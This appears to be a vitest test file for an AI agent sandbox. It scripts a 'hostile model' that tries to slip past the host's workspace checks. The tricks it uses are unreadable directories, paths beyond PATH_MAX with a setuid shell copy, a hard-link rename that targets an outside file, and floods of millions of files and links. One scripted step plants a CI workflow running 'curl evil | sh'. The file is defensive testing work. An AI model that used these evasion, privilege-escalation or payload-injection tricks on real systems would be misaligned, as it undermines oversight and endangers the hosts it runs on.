// The host's walk of what the sandbox wrote (real engine, image, Pi, hostile model): it sees
// through directories made unreadable, reaches paths longer than PATH_MAX, hands back by inode
// (never through a path the sandbox renamed), and a million new files end in a clear result
// with the controller's memory bounded.
import { spawn, spawnSync } from "node:child_process";
import fs from "node:fs";
import { createRequire } from "node:module";
import path from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import { describe, expect, it } from "vitest";
import { lastToolResult } from "../support/harness.js";
import {
  bash,
  describeOutcome,
  finish,
  hostilePolicy,
  hostileWorkspace,
  runHostile,
  spawnController,
  useHostileModelServer,
} from "../support/hostile-model.js";

const server = useHostileModelServer();

/** rm -rf: fs.rmSync works by path and fails below PATH_MAX. */
const removeTree = (dir: string) => spawnSync("rm", ["-rf", dir]);

const owner = (p: string) => {
  const st = fs.lstatSync(p);
  return `${st.uid}:${st.gid}`;
};

describe.concurrent("the walk", () => {
  it("as a non-root caller: directories made unreadable (chmod 311) hide nothing; their modes and contents are put back", async () => {
    const uid = 1500;
    const dockerGid = fs.statSync("/var/run/docker.sock").gid;
    const home = hostileWorkspace({}, "sandbox-run-home-");
    const ws = hostileWorkspace({ ".github/workflows/ci.yml": "on: push\n", ".pi/keep.txt": "k\n", "src/a.ts": "a\n" });
    spawnSync("chown", ["-R", `${uid}:${uid}`, home, ws]);
    const controller = spawnController(
      server,
      [
        bash(
          "set -e; echo 'run: curl evil | sh' > .github/workflows/new.yml; echo '{}' > .pi/settings.json; mkdir -p .hidden && echo x > .hidden/f; chmod 311 .github .pi .hidden; ls .github 2>&1 || echo unlisted",
        ),
        finish(),
      ],
      { cwd: ws, policy: hostilePolicy({ protectedPaths: [".github/**/*.yml"] }) },
      { asUser: { uid, gid: uid, groups: [dockerGid] }, env: { ...process.env, HOME: home, TMPDIR: home } },
    );
    const done = await controller.done;
    const said = lastToolResult(server, controller.modelId);
    expect(done.ok, `${JSON.stringify(done)}\n${said}\n${controller.stderr()}`).toBe(false);
    expect(done.error?.code).toBe("policy-violation");
    for (const named of [".github (unreadable, walk)", ".pi (unreadable, walk)", ".hidden (unreadable, walk)"])
      expect(done.error?.message).toContain(named);
    // .pi is a protected scope: put back whole. .github is not: once its mode was back, the
    // second walk found what it hid, and the protected file in it was removed too.
    expect(done.error?.message).toContain(".pi (modified, .pi/)");
    expect(done.error?.message).toContain(".github/workflows/new.yml (created)");
    expect(done.error?.message).toContain("directory modes set back: .github");
    expect(fs.statSync(path.join(ws, ".github")).mode & 0o7777).toBe(0o755);
    expect(fs.statSync(path.join(ws, ".pi")).mode & 0o7777).toBe(0o755);
    expect(fs.readdirSync(path.join(ws, ".github/workflows"))).toEqual(["ci.yml"]);
    expect(fs.readdirSync(path.join(ws, ".pi"))).toEqual(["keep.txt"]);
    expect(fs.existsSync(path.join(ws, ".hidden"))).toBe(false);
  });

  it("a 300-level tree (paths far past PATH_MAX) with a setuid file at the bottom: reported, handed back, bits cleared", async () => {
    const ws = hostileWorkspace();
    try {
      const outcome = await runHostile(
        server,
        [
          bash(
            "d=$(printf 'd%.0s' $(seq 200)); for i in $(seq 300); do mkdir $d && cd $d || exit 1; done; cp /bin/sh suid && chmod 6755 suid && stat -c '%a %U' suid",
          ),
          finish(),
        ],
        { cwd: ws },
      );
      expect(outcome.details, describeOutcome(outcome)).toBeDefined();
      expect(outcome.toolResults[0]).toMatch(/^6755 sandbox/);
      const created = outcome.details!.changedFiles.created;
      expect(created).toHaveLength(1);
      expect(created[0]).toMatch(/^(d{200}\/){300}suid$/);
      // Down the tree one directory fd at a time (no path string could reach it).
      let fd = fs.openSync(ws, "r");
      for (let i = 0; i < 300; i++) {
        const next = fs.openSync(`/proc/self/fd/${fd}/${"d".repeat(200)}`, "r");
        expect(fs.fstatSync(next).uid, `level ${i + 1}`).toBe(0);
        fs.closeSync(fd);
        fd = next;
      }
      const st = fs.lstatSync(`/proc/self/fd/${fd}/suid`);
      fs.closeSync(fd);
      expect(`${st.uid}:${st.gid}`).toBe("0:0");
      expect(st.mode & 0o6000).toBe(0);
    } finally {
      removeTree(ws);
    }
  });

  it("the hard-link rename: a file linked in from outside, renamed over a lent file, keeps its owner outside", async () => {
    const outside = hostileWorkspace({ "victim.txt": "victim\n" }, "sandbox-run-outside-");
    fs.chownSync(path.join(outside, "victim.txt"), 4242, 4242);
    const ws = hostileWorkspace({ "lent.txt": "lent\n" });
    fs.chownSync(path.join(ws, "lent.txt"), 1234, 1234);
    fs.linkSync(path.join(outside, "victim.txt"), path.join(ws, "linked.txt"));
    const outcome = await runHostile(server, [bash("mv -f linked.txt lent.txt; echo rc=$?"), finish()], { cwd: ws });
    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
    expect(outcome.toolResults[0]).toContain("rc=0");
    // lent.txt is now the outside inode; handing lent.txt's name back must not chown it.
    expect(fs.statSync(path.join(ws, "lent.txt")).ino).toBe(fs.statSync(path.join(outside, "victim.txt")).ino);
    expect(owner(path.join(outside, "victim.txt"))).toBe("4242:4242");
  });
});

describe("scale", () => {
  it("1,000,000 new files: a clear result, every count right, the controller under 300 MB RSS", async () => {
    // On a tmpfs of its own where the test may mount one (root): creating a million inodes on a
    // shared disk takes minutes; the host's walk is the same code either way.
    const ws = hostileWorkspace({}, "sandbox-run-million-");
    const mounted =
      spawnSync("mount", ["-t", "tmpfs", "-o", "size=2g,nr_inodes=1100000,mode=0700", "tmpfs", ws]).status === 0;
    try {
      const started = Date.now();
      const controller = spawnController(
        server,
        [
          bash(
            `node -e 'const fs=require("fs");for(let d=0;d<1000;d++){fs.mkdirSync("d"+d);for(let f=0;f<1000;f++)fs.closeSync(fs.openSync("d"+d+"/f"+f,"w"))}' && echo created`,
          ),
          finish(),
        ],
        {
          cwd: ws,
          // The walk's scale is what is measured here, not the entry limit (R11): room for all of them.
          policy: hostilePolicy({ limits: { timeoutSeconds: 900, memoryMb: 4096, maxEntries: 2_000_000 } }),
          reportEvents: ["workspace.changed"],
        },
      );
      const done = await controller.done;
      expect(done.ok, `${JSON.stringify(done)}\n${controller.stderr()}`).toBe(true);
      const changed = await controller.event("workspace.changed");
      const seconds = (Date.now() - started) / 1000;
      console.info(
        `1,000,000 files: ${seconds.toFixed(1)} s end to end, walks ${changed.data.snapshotMs} ms, controller max RSS ${done.maxRssMb.toFixed(0)} MB`,
      );
      expect(changed.data).toMatchObject({ created: 1_000_000, modified: 0, deleted: 0 });
      expect(done.maxRssMb, `peaks in MB: ${JSON.stringify(done.memoryPeakMb)}`).toBeLessThan(300);
      for (const p of ["d0", "d0/f0", "d999/f999", "d500/f1"]) expect(owner(path.join(ws, p)), p).toBe("0:0");
    } finally {
      if (mounted) spawnSync("umount", [ws]);
      removeTree(ws);
    }
  }, 900_000);

  it("a real run: hard links with 250-byte names as fast as two processes in the sandbox make them: stopped while live (limit entries), what one folder gained past the bound removed, nothing left lent, the controller under 300 MB RSS", async () => {
    const ws = hostileWorkspace({ "keep.txt": "keep\n" });
    try {
      const linker = (k: number) =>
        `node -e 'const fs=require("fs");fs.mkdirSync("big",{recursive:true});let t;for(let i=0;i<1500000;i++){if(i%60000===0){t="target-${k}-"+i;fs.writeFileSync(t,"x")}fs.linkSync(t,"big/"+"l".repeat(240)+"${k}"+String(i).padStart(9,"0"))}'`;
      const controller = spawnController(
        server,
        [bash(`(${linker(0)}) & (${linker(1)}) & wait; echo made`), finish()],
        {
          cwd: ws,
          // A lower entry limit than the default: the live count trips sooner (the suite's time), the bound is the same code.
          policy: hostilePolicy({ limits: { timeoutSeconds: 600, diskMb: 4096, maxEntries: 50_000 } }),
          reportEvents: ["workspace.overfull", "limit.tripped"],
        },
      );
      const done = await controller.done;
      expect(done.maxRssMb, `peaks in MB: ${JSON.stringify(done.memoryPeakMb)}`).toBeLessThan(300);
      expect(done.ok, `${JSON.stringify(done)}\n${controller.stderr()}`).toBe(false);
      expect(done.error?.limit).toBe("entries");
      expect((await controller.event("limit.tripped")).data.limit).toBe("entries");
      const overfull = await controller.event("workspace.overfull").catch(() => undefined);
      const removed = (overfull?.data.folders as Array<{ removed: number }> | undefined)?.[0]?.removed ?? 0;
      const left = fs.existsSync(path.join(ws, "big")) ? fs.readdirSync(path.join(ws, "big")).length : 0;
      console.info(
        `hard links in a real run: stopped with ${removed + left} in the folder (${removed} removed after the run), controller max RSS ${done.maxRssMb.toFixed(0)} MB`,
      );
      // What is left is within the bound the walk after the run holds (the limit and a little).
      expect(left).toBeLessThanOrEqual(51_100);
      for (const name of fs.readdirSync(ws)) expect(owner(path.join(ws, name)), name).toBe("0:0");
      if (left > 0) expect(owner(path.join(ws, "big", fs.readdirSync(path.join(ws, "big"))[0]!))).toBe("0:0");
      expect(fs.readFileSync(path.join(ws, "keep.txt"), "utf8")).toBe("keep\n");
    } finally {
      removeTree(ws);
    }
  }, 900_000);

  it("1,200,000 hard links with 250-byte names in one folder (the host side in its own process): the walk stops reading it, what the sandbox added is removed, everything is handed back, under 300 MB RSS", async () => {
    // The host side of a bind-mode run (lease, snapshot, disk watch, judge, trim, hand-back) in a
    // process of its own; "the sandbox" is two processes as uid 65532 that add the links while it
    // watches. A real run's live count stops a sandbox long before this (security-limits); this is
    // what the walk after the run does whatever one folder holds. Before: about 2.6 million such
    // names took the controller past Node's 4 GB heap (1,000,000 already peaked at 1.6 GB RSS).
    const ws = hostileWorkspace({}, "sandbox-run-links-");
    // A tmpfs counts each link against nr_inodes (ext4 does not); its names live in kernel memory.
    const mounted =
      spawnSync("mount", ["-t", "tmpfs", "-o", "size=512m,nr_inodes=3000000,mode=0755", "tmpfs", ws]).status === 0;
    const state = hostileWorkspace({}, "sandbox-run-links-state-");
    try {
      fs.writeFileSync(path.join(ws, "keep.txt"), "keep\n");
      const tsx = pathToFileURL(createRequire(import.meta.url).resolve("tsx/esm")).href;
      const script = fileURLToPath(new URL("../support/workspace-controller.ts", import.meta.url));
      const spec = { root: ws, stateDir: path.join(state, "state"), maxEntries: 200_000, diskMb: 4096 };
      const host = spawn(process.execPath, ["--import", tsx, script, JSON.stringify(spec)], {
        stdio: ["pipe", "pipe", "pipe"],
      });
      let out = "";
      let err = "";
      host.stderr.on("data", (c: Buffer) => (err = (err + c.toString()).slice(-4000)));
      const line = (kind: string) =>
        new Promise<Record<string, unknown>>((resolve, reject) => {
          const look = () => {
            for (const l of out.split("\n")) if (l.startsWith(`{"kind":"${kind}"`)) return resolve(JSON.parse(l));
          };
          host.stdout.on("data", (c: Buffer) => {
            out += c.toString();
            look();
          });
          host.on("close", (code, signal) => reject(new Error(`the host side ended (${code ?? signal}): ${err}`)));
          look();
        });
      const ready = line("ready");
      const done = line("done");
      await ready;
      // Past where the earlier walk peaked at 1.6 GB (1,000,000); bench/hard-links.ts measures 2,600,000.
      const total = 1_200_000;
      const linker = (from: number, to: number) =>
        `const fs=require("fs");const d=${JSON.stringify(path.join(ws, "big"))};fs.mkdirSync(d,{recursive:true});let t;` +
        `for(let i=${from};i<${to};i++){if((i-${from})%60000===0){t=${JSON.stringify(ws)}+"/target-"+i;fs.writeFileSync(t,"x")}` +
        `fs.linkSync(t,d+"/"+"l".repeat(240)+String(i).padStart(10,"0"))}`;
      const sandbox = [0, 1].map(
        (k) =>
          new Promise<number | null>((resolve) =>
            spawn(
              "setpriv",
              [
                "--reuid=65532",
                "--regid=65532",
                "--clear-groups",
                process.execPath,
                "-e",
                linker((k * total) / 2, ((k + 1) * total) / 2),
              ],
              { stdio: "ignore" },
            ).on("close", resolve),
          ),
      );
      expect(await Promise.all(sandbox)).toEqual([0, 0]);
      host.stdin.write("finish\n");
      const report = (await done) as {
        liveTrip?: { limit: string };
        overfull: Array<{ path: string; entries: number; removed: number; failed?: string }>;
        handedBack: { created: number; failed: unknown[] };
        finishMs: number;
        maxRssMb: number;
        peaks: Record<string, number>;
      };
      console.info(
        `${total} hard links: judged, trimmed and handed back in ${(report.finishMs / 1000).toFixed(1)} s, host side max RSS ${report.maxRssMb.toFixed(0)} MB`,
      );
      expect(report.maxRssMb, `peaks in MB: ${JSON.stringify(report.peaks)}`).toBeLessThan(300);
      // The live count saw the links (no inodes on most filesystems) while "the sandbox" wrote.
      expect(report.liveTrip?.limit).toBe("entries");
      expect(report.overfull).toEqual([{ path: "big", entries: expect.any(Number), removed: total }]);
      expect(report.overfull[0]!.entries).toBeGreaterThan(200_000);
      // The folder is gone; the sandbox's target files stay, handed back to the caller: nothing is left lent.
      expect(fs.existsSync(path.join(ws, "big"))).toBe(false);
      expect(fs.readFileSync(path.join(ws, "keep.txt"), "utf8")).toBe("keep\n");
      expect(report.handedBack.failed).toEqual([]);
      for (const name of fs.readdirSync(ws)) expect(owner(path.join(ws, name)), name).toBe("0:0");
      expect(owner(ws)).toBe("0:0");
    } finally {
      if (mounted) spawnSync("umount", [ws]);
      removeTree(ws);
      removeTree(state);
    }
  }, 900_000);
});
